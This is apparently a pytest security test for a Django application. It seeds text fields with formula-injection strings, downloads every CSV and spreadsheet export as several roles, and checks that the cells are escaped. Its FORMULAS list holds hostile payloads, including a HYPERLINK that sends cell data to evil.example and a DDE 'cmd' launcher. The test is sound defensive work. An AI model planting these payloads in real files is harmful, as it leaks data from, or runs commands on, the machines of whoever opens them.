"""No download can carry a spreadsheet formula, whoever fetches it.

Every free-text column is filled with formula-prefixed text (``=``, ``+``, ``-``, ``@``, tab,
carriage return), then every URL that answers GET is fetched as several personas; any CSV or
spreadsheet that comes back is read cell by cell. A cell may start with a formula prefix only
when it is a plain number or was quoted by the shared writer (``seedbed.core.exports``). The
exports are found from the answers, so a new export is covered without a list.
"""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.urls import reverse

from seedbed.core.exports import ESCAPE, FORMULA_PREFIXES
from tests.core.access_table import ACCESS_TABLE, expected_status
from tests.security.post_rules import READ_ONLY
from tests.security.seeding import seed_free_text

FORMULAS = ('=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3+A1",
            "@SUM(A1:A9)", "\t=1+1", "\r=1+1")
SPREADSHEET_TYPES = ("text/csv", "text/tab-separated-values", "spreadsheetml", "ms-excel",
                     "opendocument.spreadsheet")
# Exports known today; the walk must find at least these (more are welcome).
KNOWN_EXPORTS = {
    "funding:grants_360_csv", "funding:grants_transparency_csv", "library:export_csv",
    "participation:export_csv", "funding:pb_numbers_csv",
}


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return cell.strip() == cell and cell.lower().lstrip("+-") not in ("nan", "inf", "infinity")


def _cells(response: Any) -> list[str]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    kind = response.get("Content-Type", "")
    if "spreadsheetml" in kind or "opendocument" in kind or "ms-excel" in kind:
        import openpyxl

        book = openpyxl.load_workbook(io.BytesIO(body))
        cells = []
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        cells.append(f"=<formula {cell.coordinate}>")
                    elif isinstance(cell.value, str):
                        cells.append(cell.value)
        return cells
    text = body.decode("utf-8-sig")
    delimiter = "\t" if "tab-separated" in kind else ","
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]


def _is_export(response: Any) -> bool:
    kind = response.get("Content-Type", "")
    disposition = response.get("Content-Disposition", "")
    return any(t in kind for t in SPREADSHEET_TYPES) or any(
        disposition.endswith(f'.{ext}"') for ext in ("csv", "tsv", "xlsx", "xls", "ods"))


@pytest.mark.parametrize("roles", [("anonymous", "resident", "provider"), ("lead", "admin", "frontline")])
def test_no_export_carries_a_formula(roles, world, signed_in) -> None:  # type: ignore[no-untyped-def]
    rules = {name: (audience, kwargs) for name, (audience, kwargs) in ACCESS_TABLE.items()}
    rules.update({name: ("public", kwargs) for name, kwargs in READ_ONLY.items()})
    # URLs are found by title, so they are worked out before the titles change.
    urls = {name: reverse(name, kwargs=kwargs(world)) for name, (_a, kwargs) in rules.items()}
    assert seed_free_text(lambda i: FORMULAS[i % len(FORMULAS)]) >= 40
    found: set[str] = set()
    quoted: set[str] = set()
    failures = []
    for role in roles:
        client = signed_in(role)
        for name, (audience, _kwargs) in sorted(rules.items()):
            if audience != "public" and expected_status(audience, role) != 200:
                continue
            response = client.get(urls[name])
            if response.status_code != 200 or not _is_export(response):
                continue
            found.add(name)
            cells = _cells(response)
            bad = [c for c in cells if c.startswith(FORMULA_PREFIXES) and not _is_number(c)]
            if bad:
                failures.append(f"{name} as {role}: cells a spreadsheet would run: {sorted(set(bad))[:4]!r}")
            if any(c.startswith(ESCAPE) and c[1:2] in FORMULA_PREFIXES for c in cells):
                quoted.add(name)
    assert not failures, "\n".join(failures)
    if "lead" in roles:
        assert KNOWN_EXPORTS <= found, f"exports not found by the walk: {sorted(KNOWN_EXPORTS - found)}"
    # The hostile text reached the exports that carry people's text, and was quoted there.
    assert len(quoted) >= 3, f"only {sorted(quoted)} carried (quoted) seeded text"
